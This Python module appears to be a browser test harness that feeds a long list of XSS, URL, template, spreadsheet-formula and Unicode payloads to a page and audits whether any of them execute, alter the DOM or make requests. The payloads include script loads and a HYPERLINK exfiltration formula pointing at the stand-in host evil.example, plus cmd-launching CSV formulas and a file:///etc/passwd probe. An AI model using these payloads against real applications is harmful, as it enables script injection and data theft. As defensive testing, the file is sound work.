"""Texts that try to be more than text, and a page that is watched while it is shown them.

Each payload adds to ``top.hit`` if it runs. Nothing here is harmful.
"""

from __future__ import annotations

import time
from pathlib import Path

HIT = "top.hit++"

PAYLOADS = (
    # elements that run
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</ScRiPt ><script>{HIT}</script>",
    f"</script\t><script>{HIT}</script>",
    f"<script/x>{HIT}</script/x>",
    f"<<script>{HIT};//<</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script src=data:text/javascript,{HIT}></script>",
    "<script src=https://evil.example/x.js></script>",
    f"<script type=module>{HIT}</script>",
    f"</script><script type='application/json' id=data>{{}}</script><script>{HIT}</script>",
    # what closes a comment, a block of characters, an element
    f"<!--<script>{HIT}//",
    "<!--<script>",
    f"--><script>{HIT}</script>",
    f"--!><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea></noscript></select></svg></math><script>{HIT}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    # events
    f"<img src=x onerror={HIT}>",
    f"<img/src/onerror={HIT}>",
    f"<IMG SRC=x ONERROR={HIT}>",
    f"<body onload={HIT} onpageshow={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video src=x onerror={HIT}></video><audio src=x onerror={HIT}></audio>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={HIT}>x</b>",
    f"\" onmouseover=\"{HIT}\" autofocus onfocus=\"{HIT}",
    f"' onfocus='{HIT}' autofocus x='",
    f"` onfocus={HIT} autofocus x=`",
    # drawings, mathematics, frames and the rest
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script xlink:href=data:,{HIT} /></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{HIT}><text y=9>href</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    "<svg><use href=https://evil.example/x.svg#x /></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={HIT}>",
    f"<iframe srcdoc='<script>{HIT}</script>'></iframe>",
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<object data=data:text/html,<script>{HIT}</script>></object>",
    f"<embed src=javascript:{HIT}>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<form action=javascript:{HIT}><button autofocus>x</button></form>",
    f"<template><script>{HIT}</script></template>",
    # styles
    "<style>*{display:none!important}</style>",
    "</style><style>body{background:url(https://evil.example/x)}",
    "red;background:url(https://evil.example/x);}*{display:none}",
    "expression(top.hit++)",
    # addresses
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}//https://x.example",
    f" \tjavascript:{HIT}",
    f"java\nscript:{HIT}",
    f"javascript&colon;{HIT}",
    f"vbscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGl0Kys8L3NjcmlwdD4=",
    f"blob:https://x.example/{HIT}",
    f"https://x.example/\"><script>{HIT}</script>",
    f"https://x.example/' onclick='{HIT}",
    "https://x.example@evil.example/a?b=1&c=2#:~:text=x",
    "//evil.example/x",
    "file:///etc/passwd",
    f"<a href=javascript:{HIT}>href</a>",
    "href href=\"javascript:top.hit++\" click me",
    # templates, and what ends a text of a script
    "{{ 7*7 }}{% raw %}{{ self.__init__.__globals__ }}",
    "{n} {name} {title} {0}",
    "${top.hit++}",
    "`${top.hit++}`",
    "$& $1 $` $' %s %d %%",
    f"');{HIT};//",
    f"\");{HIT};//",
    f"\\\");{HIT};//",
    f"\"}}]}};{HIT};//",
    f"\\u003cscript>{HIT}\\u003c/script>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;&amp;#x3c;",
    f"\u2028{HIT}\u2029;{HIT}",
    f"*/{HIT}/*",
    # formulas of spreadsheets
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "x\",=1+1,\"\n=1+1;=1+1",
    # characters
    f"\x00<script>{HIT}</script>",
    f"<scr\x00ipt>{HIT}</script>",
    "\u202eabc\u2066def\u2069\u200f\u061cghi",
    "a\u200bb\u200cc\u200dd\ufeffe\u00adf",
    "\x1b[31mred\x1b]0;title\x07\x9b31m",
    "\ud800<script>\udfff",
    "\ufffe\uffff\u0085\x7f",
    "Z̴̡̛͙̲͕͉̲̬a̸͔̓l̷̞͠g̵̰̈o̶͝" * 8,
    "👩‍👩‍👧‍👦 القائمة 漢字",
    f"＜script＞{HIT}＜/script＞",
    "long" * 99,
    # names that objects have of their own
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "constructor; __proto__; toString; valueOf",
    "kgState",
    "location",
)  # fmt: skip

# Before anything else of a page, and in its frames too.
NOTE = """
if (window === top) { window.hit = 0; window.blocked = []; }
addEventListener("securitypolicyviolation", (event) => {
  top.blocked.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""

# What a page that shows texts as texts does not have.
AUDIT = """({ forbidden, addresses }) => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    if (forbidden.includes(name)) found.push(`<${name}>`);
    for (const { name: at, value } of element.attributes) {
      if (at.startsWith("on")) found.push(`<${name} ${at}>`);
      if (/^(href|src|xlink:href|action|formaction|data|srcdoc|ping|poster|background)$/.test(at)
          && !new RegExp(addresses).test(value)) found.push(`<${name} ${at}=${value}>`);
    }
  }
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const turning = /[\\u0000-\\u0008\\u202a-\\u202e\\u2066-\\u2069]/;
  while (walker.nextNode()) {
    const { data, parentElement } = walker.currentNode;
    if (parentElement.localName === "script") continue;
    if (turning.test(data)) found.push(`text ${data}`);
  }
  if (turning.test(document.title)) found.push(`title ${document.title}`);
  return found;
}"""
COUNTS = """(names) => Object.fromEntries(names.map((name) => {
  return [name, document.querySelectorAll(`${name}:not(svg *)`).length];
}))"""
FORBIDDEN = (
    *("iframe", "frame", "object", "embed", "applet", "base", "img", "image", "video", "audio"),
    *("source", "track", "foreignObject", "use", "animate", "set", "math", "template", "portal"),
)
FIXED = ("script", "style", "meta", "link", "title", "html", "head", "body", "main", "h1")
ADDRESSES = r"^(https?://[^\s]+|#.*|\.\./index\.html|data:,|blob:.*)$"


class Watched:
    """A page that is opened from a file, and all that it did and said beside being shown."""

    def __init__(self, context, path: Path, where: str = "") -> None:
        self.events: list[str] = []
        self.stopped: list[str] = []
        self.page = context.new_page()
        self.page.add_init_script(NOTE)
        self.address = path.as_uri()
        note = self.events.append
        self.page.on("request", lambda request: note(f"request {request.url}"))
        self.page.on(
            "requestfailed", lambda request: self.stopped.append(f"{request.failure} {request.url}")
        )
        self.page.on("console", lambda message: note(f"console {message.text}"))
        self.page.on("pageerror", lambda error: note(f"error {error}"))
        self.page.on("dialog", lambda dialog: (note("dialog"), dialog.dismiss()))
        self.page.on("popup", lambda popup: note(f"popup {popup.url}"))
        self.page.on("worker", lambda worker: note(f"worker {worker.url}"))
        self.page.on("websocket", lambda socket: note(f"socket {socket.url}"))
        self.page.on("frameattached", lambda frame: note(f"frame {frame.url}"))
        self.page.on("crash", lambda _: note("crash"))
        self.page.goto(self.address + where)
        self.first = self.counts()

    def wait(self, what: str) -> None:
        """Wait until this is true; the page's policy forbids Playwright's own way to wait."""
        end = time.monotonic() + 30
        while not self.page.evaluate(what):
            if time.monotonic() > end:
                raise TimeoutError(f"not true in 30 s: {what}; what it did: {self.events}")
            self.page.wait_for_timeout(10)

    def audit(self) -> list[str]:
        found: list[str] = self.page.evaluate(
            AUDIT, {"forbidden": FORBIDDEN, "addresses": ADDRESSES}
        )
        return found

    def counts(self) -> dict[str, int]:
        """Tell how many there are of the elements of which a page has a fixed number."""
        found: dict[str, int] = self.page.evaluate(COUNTS, FIXED)
        return found

    def wrong(self) -> list[str]:
        """Say what the page did, asked or has that texts must not bring about."""
        found = self.audit()
        if self.counts() != self.first:
            found.append(f"{self.first} became {self.counts()}")
        if hits := self.page.evaluate("top.hit"):
            found.append(f"{hits} ran")
        found += [f"blocked {each}" for each in self.page.evaluate("top.blocked")]
        if self.page.url.partition("#")[0] != self.address:
            found.append(f"went to {self.page.url}")
        # What is saved is made in the page, and so is the picture in its tab.
        allowed = (f"request {self.address}", "request data:,", "request blob:")
        return found + [each for each in self.events if not each.startswith(allowed)]
